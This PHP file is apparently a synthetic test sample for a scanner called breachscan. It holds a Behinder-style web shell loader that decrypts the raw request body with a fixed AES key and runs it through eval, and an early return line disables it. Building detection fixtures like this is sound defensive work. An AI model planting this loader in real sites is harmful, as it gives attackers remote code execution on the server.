<?php
// synthetic test sample for breachscan: Behinder-style encrypted loader - the raw body is
// decrypted with a fixed 16-hex-digit key and evaluated. Key is a dummy; disabled.
return;
$key = "0123456789abcdef";
$post = file_get_contents('php://input');
$code = openssl_decrypt($post, 'AES128', $key);
eval($code);
